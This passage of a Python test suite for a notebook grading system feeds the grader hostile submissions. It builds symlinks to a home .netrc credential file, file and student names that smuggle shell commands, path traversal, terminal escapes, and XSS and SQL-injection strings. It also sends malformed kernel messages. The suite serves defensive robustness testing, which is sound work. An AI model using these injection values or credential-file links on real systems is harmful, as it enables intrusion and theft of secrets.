    (folder / "home").symlink_to(json.loads(course.targets)["home"])
    (folder / "round").symlink_to("round")
    (folder / "up").symlink_to("..")
    (folder / "data").mkdir()
    (folder / "data" / "key").symlink_to(Path(json.loads(course.targets)["home"], ".netrc"))
    os.mkfifo(folder / "pipe")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(os.path.relpath(folder / "socket"))


@checks
def _(folder, course):
    assert not {"gradebook", "home", "round", "up", "pipe", "socket"} & set(os.listdir(folder))


@folder(ALL, look_at="timestamp.txt")
def links_its_timestamp(folder, course):
    """Hands in a timestamp that is a link to a password."""
    (folder / "timestamp.txt").symlink_to(Path(json.loads(course.targets)["home"], ".netrc"))


@folder(ALL, look_at="timestamp.txt")
def has_an_endless_timestamp(folder, course):
    """Hands in a timestamp that is a link to a device without an end."""
    (folder / "timestamp.txt").symlink_to("/dev/zero")


@folder(ALL, look_at="timestamp.txt")
def has_a_timestamp_that_waits(folder, course):
    """Hands in a timestamp that is a pipe, which nobody will ever write to."""
    os.mkfifo(folder / "timestamp.txt")


@folder(ALL)
def has_hostile_file_names(folder, course):
    """Names its files so that a shell, a terminal or a path goes wrong."""
    for name in (
        *(b"-rf", b"$(touch owned)", b"; touch owned", b"`touch owned`"),
        *(b"a\nb", b"\x1b[2J\x07", b"\xff\xfe"),
        *(b"n" * 255, b"..\\..\\owned", b" ", b"~", b"*", b"\xff.ipynb", b"a\nb.ipynb", b"..ipynb"),
    ):
        with open(os.fsencode(folder) + b"/" + name, "wb") as file:
            file.write(b"x")


@checks
def _(folder, course):
    assert not list(course.root.rglob("owned"))
    assert (folder / "$(touch owned)").read_text() == "x"


@folder(ALL)
def has_a_deep_folder(folder, course):
    """Hands in a file as deep down as a path can reach."""
    here = os.getcwd()
    try:
        os.chdir(folder)
        for _ in range(18):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        Path("file.txt").write_text("x")
    finally:
        os.chdir(here)


@folder(ALL)
def has_many_files(folder, course):
    """Hands in two thousand files, to keep the grader looking."""
    for number in range(2000):
        (folder / f"{number}.txt").touch()


@folder(0)
def is_a_folder(folder, course):
    """Hands in a folder with the name of the notebook."""
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).mkdir()
    (folder / NOTEBOOK / "inside.txt").write_text("x")


def _named(student: str, tries: str, points=(ALL,)) -> None:
    def hand_in(course: Course, student: str) -> None:
        course.hand_in(student)

    SUBMISSIONS.append(Hostile(student, tries, hand_in, points))


_named("é" * 120, "Comes from a student with a very long name")
_named("-rf $(touch owned); {student_id} %s", "Comes from a student whose name is a command")
_named("~", "Comes from a student whose name is somebody's home")
_named("<script>alert(1)</script>'; drop table student;--".replace("/", "∕"),
       "Comes from a student whose name is a program")  # fmt: skip


# --- what is shown ------------------------------------------------------------------------------


@code(REST, may=("html", "javascript", "escapes", "half", "widgets", "no such type"))
def shows_programs():
    """Shows HTML, JavaScript and the terminal's own commands."""
    import sys

    from IPython import get_ipython
    from IPython.display import HTML, Javascript, display

    page = HTML("<script>fetch('/evil')</script><img src=x onerror=evil()>")
    attempt("html", lambda: display(page))
    attempt("javascript", lambda: display(Javascript("fetch('/evil')")))
    attempt("escapes", lambda: print("\x1b]0;owned\x07\x1b[2J\x1b[31mred", "\r" * 100, "\b" * 100))
    get_ipython().kernel.session.pack = lambda content: json.dumps(content, default=str).encode()
    attempt("half", lambda: display({"text/plain": "\ud800"}, raw=True))
    attempt("no such type", lambda: display({"../../x": "y", "": "z"}, raw=True))
    print("\x1b[2J owned", file=sys.stderr)


@code(REST, may=("shown",))
def fails_with_a_hostile_message():
    """Raises an error whose name and message drive the terminal and cannot be printed."""

    class Silent(Exception):
        def __str__(self):
            raise SystemExit

    attempt("shown", lambda: None)
    raise type("\x1b[2JPermissionError", (Silent, PermissionError), {})("\x1b]0;owned\x07[Errno 1]")


@code(0, REST, may=("sent",))
def sends_messages_that_are_none():
    """Sends messages with the wrong content, and one that says the kernel has ended."""
    from IPython import get_ipython

    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")

    def send(kind, content):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=b"x")

    def all_of_them():
        send("error", {"ename": None, "evalue": 5, "traceback": "none"})
        send("display_data", {"data": 5, "metadata": [], "transient": {"display_id": "x"}})
        send("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": "x"}})
        send("stream", {"name": "\x1b[2J", "text": 7})
        send("comm_open", {"comm_id": "x", "target_name": "jupyter.widget", "data": {"state": 5}})
        send("status", {"execution_state": "dead"})
        send("no such type", {})

    attempt("sent", all_of_them)
